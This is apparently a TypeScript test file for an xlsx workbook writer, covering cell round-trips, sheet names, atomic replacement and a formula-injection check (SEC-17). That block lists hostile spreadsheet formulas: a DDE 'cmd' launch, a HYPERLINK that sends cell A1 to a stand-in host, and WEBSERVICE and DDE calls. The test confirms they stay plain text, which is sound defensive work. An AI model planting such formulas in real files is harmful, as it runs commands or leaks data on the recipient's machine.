import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { read, utils } from '@e965/xlsx';
import fc from 'fast-check';
import { readXlsx } from 'hucre/xlsx';
import { describe, expect, it } from 'vitest';
import { cellKind } from '../../kernel/packed-column';
import { defaultLimits } from './limits';
import { openFile } from './reader/open';
import { ownFiles, readAll, textsOf } from './testing/files';
import type { CellOut, ColumnOut } from './types';
import { rowsPerSheet, writeWorkbook } from './write/workbook';

const { aFile, aPath } = ownFiles();

function column(header: string, more: Partial<ColumnOut> = {}): ColumnOut {
  return { header, width: 12, ...more };
}

async function written(name: string, columns: readonly ColumnOut[], rows: Iterable<readonly CellOut[]>): Promise<string> {
  await writeWorkbook(aPath(name), [{ name: '名单', columns, rows }]);
  return aPath(name);
}

describe('a written workbook', () => {
  it('opens in other readers with its sheets, headers and cells', async () => {
    const file = aPath('other.xlsx');
    await writeWorkbook(file, [
      {
        name: '名单',
        columns: [column('姓名'), column('人数', { kind: 'integer' })],
        rows: [
          ['张三', 3],
          ['李四', null],
        ],
      },
      { name: "a'b&c", columns: [column('率', { kind: 'percent' })], rows: [[0.5]] },
      { name: '空', columns: [column('姓名')], rows: [] },
    ]);
    const book = read(readFileSync(file));
    expect(book.SheetNames).toEqual(['名单', "a'b&c", '空']);
    expect(utils.sheet_to_json(book.Sheets.名单)).toEqual([{ 姓名: '张三', 人数: 3 }, { 姓名: '李四' }]);
    expect(book.Sheets.名单['!autofilter']).toEqual({ ref: 'A1:B3' });
    const other = await readXlsx(readFileSync(file), { readStyles: true });
    expect(other.sheets.map(({ rows }) => rows)).toEqual([
      [
        ['姓名', '人数'],
        ['张三', 3],
        ['李四', null],
      ],
      [['率'], [0.5]],
      [['姓名']],
    ]);
    expect(other.sheets[0].freezePane).toMatchObject({ rows: 1 });
    expect(other.sheets[0].columns?.[0].width).toBe(12);
  });

  it('keeps IDs as text, also when the caller hands over a number', async () => {
    const found = await readAll(await written('ids.xlsx', [column('身份证件号码'), column('班')], [['211324201203050011', 7]]));
    expect(found.rows[1]).toEqual(['211324201203050011', '7']);
    expect(found.kinds[1]).toEqual([cellKind.text, cellKind.text]);
  });

  it('keeps what cannot be a number as text in a column of numbers', async () => {
    const found = await readAll(await written('nan.xlsx', [column('人数', { kind: 'integer' })], [[Number.NaN], ['—'], [2]]));
    expect(found.rows.flat()).toEqual(['人数', 'NaN', '—', '2']);
    expect(found.kinds.flat()).toEqual([cellKind.text, cellKind.text, cellKind.text, cellKind.number]);
  });

  it('comes back as it was handed over, whatever the text', async () => {
    // XML has no place for half characters and most control characters; blanks around a cell are trimmed when it is read.
    const cell = fc
      .oneof(fc.string({ unit: 'binary', maxLength: 10 }), fc.stringMatching(/^[村=&<>"'_x00D\n\t a]{0,12}$/))
      .map((text) => `a${text}b`);
    const illegal = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 30 }), async (rows) => {
        const file = await written('random.xlsx', [column('甲'), column('乙')], rows);
        const sheet = await (await openFile(file, defaultLimits)).read(
          { sheet: '名单', fromRow: 2, columns: [0, 1] },
          () => undefined,
        );
        expect(textsOf(sheet)).toEqual(rows.map((cells) => cells.map((text) => text.replace(illegal, ''))));
      }),
      { numRuns: 150 },
    );
  });

  it('keeps carriage returns, and texts that look like the escapes of Excel', async () => {
    const found = await readAll(await written('escapes.xlsx', [column('甲')], [['a\rb\r\nc'], ['a_x000D_b']]));
    expect(found.rows).toEqual([['甲'], ['a\rb\r\nc'], ['a_x000D_b']]);
  });

  it('goes on in a second sheet when there are more rows than a sheet holds', async () => {
    function* rows(): Generator<string[]> {
      for (let row = 0; row <= rowsPerSheet; row++) yield [row === rowsPerSheet ? '最后' : '甲'];
    }
    const file = await written('pages.xlsx', [column('姓名')], rows());
    const { preview, rows: second } = await readAll(file, { sheet: '名单(2)' });
    expect(preview.sheets.map(({ name }) => name)).toEqual(['名单', '名单(2)']);
    expect(second).toEqual([['姓名'], ['最后']]);
  });

  it('has sheet names that Excel accepts', async () => {
    const file = aPath('names.xlsx');
    const names = ['2025/26:[a]?', '2025/26:[a]?', '', '喀喇沁左翼蒙古族自治县第一批适龄儿童少年疑似辍学核查名单全表'];
    await writeWorkbook(
      file,
      names.map((name) => ({ name, columns: [column('a')], rows: [] })),
    );
    expect((await readAll(file)).preview.sheets.map(({ name }) => name)).toEqual([
      '2025_26__a__',
      '2025_26__a__(2)',
      'Sheet',
      names[3].slice(0, 31),
    ]);
  });
});

describe('a text that looks like a formula (SEC-17)', () => {
  const starts = ['=', '+', '-', '@', '\t=', '\r=', '\u0000=', '＝', '＋', '－', '＠'];
  const bodies = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.cn?"&A1,"点我")',
    '1+1',
    'SUM(1)*cmd|x',
    '"',
    '',
    ' 1',
    'WEBSERVICE("http://x")',
    "1'!A1",
    '<f>1</f>',
    ']]>',
    '&lt;',
    '2+5+cmd',
    'DDE("a";"b")',
    'a\n=1',
    '1e5',
    '138',
    '\u0000',
    '--1',
  ];

  it(`stays a text with a quote before it: ${starts.length * bodies.length} payloads`, async () => {
    const payloads = starts.flatMap((start) => bodies.map((body) => start + body));
    const file = await written(
      'payloads.xlsx',
      [column('备注'), column('说明', { wrap: true })],
      payloads.map((text) => [text, text]),
    );
    const bytes = readFileSync(file);
    const sheet = read(bytes, { cellFormula: true, cellStyles: true }).Sheets.名单;
    const cells = Object.entries(sheet).filter(([address]) => /^[AB]([2-9]|\d\d+)$/.test(address));
    expect(cells).toHaveLength(payloads.length * 2);
    expect(cells.filter(([, cell]) => cell.f !== undefined || cell.t !== 's')).toEqual([]);
    const styled = (await readXlsx(bytes, { readStyles: true })).sheets[0];
    expect(styled.rows).toHaveLength(payloads.length + 1);
    const xml = await sheetXml(file);
    expect(xml.match(/<f[ >]/)).toBeNull();
    expect([...xml.matchAll(/<c r="[AB](?!1")\d+" s="(\d)"/g)].filter(([, style]) => style !== '4' && style !== '5')).toEqual([]);
  });

  it('has styles 4, 5 and 9 marked as quoted', async () => {
    const { stylesXml } = await import('./write/parts');
    const cellStyles = stylesXml.slice(stylesXml.indexOf('<cellXfs'), stylesXml.indexOf('</cellXfs>')).match(/<xf [^>]*>/g) ?? [];
    expect(cellStyles.map((style) => style.includes('quotePrefix="1"'))).toEqual([
      false,
      false,
      false,
      false,
      true,
      true,
      false,
      false,
      false,
      true,
    ]);
  });
});

async function sheetXml(file: string): Promise<string> {
  const { openArchive } = await import('./reader/xlsx/archive');
  return (await openArchive(file, defaultLimits)).text('xl/worksheets/sheet1.xml');
}

describe('the target of a written workbook', () => {
  const before = 'what was there before';

  it('is what it was when the rows fail, and nothing is left beside it', async () => {
    const file = aFile('atomic.xlsx', before);
    function* failing(): Generator<string[]> {
      for (let row = 0; row < 50_000; row++) yield ['甲'];
      throw new Error('the register is gone');
    }
    await expect(written('atomic.xlsx', [column('姓名')], failing())).rejects.toThrow('the register is gone');
    expect(readFileSync(file, 'utf8')).toBe(before);
    expect(readdirSync(path.dirname(file)).filter((name) => name.includes('.tmp'))).toEqual([]);
  });

  it('is what it was after an abort, with the reason of the caller', async () => {
    const file = aFile('aborted.xlsx', before);
    const abort = new AbortController();
    const reason = new Error('the user closed the page');
    const rows = Array.from({ length: 50_000 }, (_, row) => [`第 ${row} 行`]);
    const writing = writeWorkbook(file, [{ name: 'a', columns: [column('姓名')], rows }], {
      signal: abort.signal,
      onProgress: () => abort.abort(reason),
    });
    await expect(writing).rejects.toBe(reason);
    expect(readFileSync(file, 'utf8')).toBe(before);
    expect(readdirSync(path.dirname(file)).filter((name) => name.includes('.tmp'))).toEqual([]);
  });

  it('is replaced when all is written', async () => {
    writeFileSync(aPath('replaced.xlsx'), before);
    expect((await readAll(await written('replaced.xlsx', [column('姓名')], [['张三']]))).rows).toEqual([['姓名'], ['张三']]);
  });

  it('that cannot be written is refused with a sentence', async () => {
    const writing = writeWorkbook(aPath('没有/这个/文件夹/a.xlsx'), []);
    await expect(writing).rejects.toMatchObject({ code: 'cannotWrite', message: expect.stringMatching(/“a\.xlsx”.*请/) });
  });

  it('is told of its progress in rows over all sheets', async () => {
    const seen: number[] = [];
    const rows = Array.from({ length: 20_000 }, (_, row) => [`第 ${row} 行`]);
    const sheet = { name: 'a', columns: [column('姓名')], rows };
    await writeWorkbook(aPath('progress.xlsx'), [sheet, sheet], { onProgress: (count) => seen.push(count) });
    expect(seen.at(-1)).toBe(40_000);
  });
});
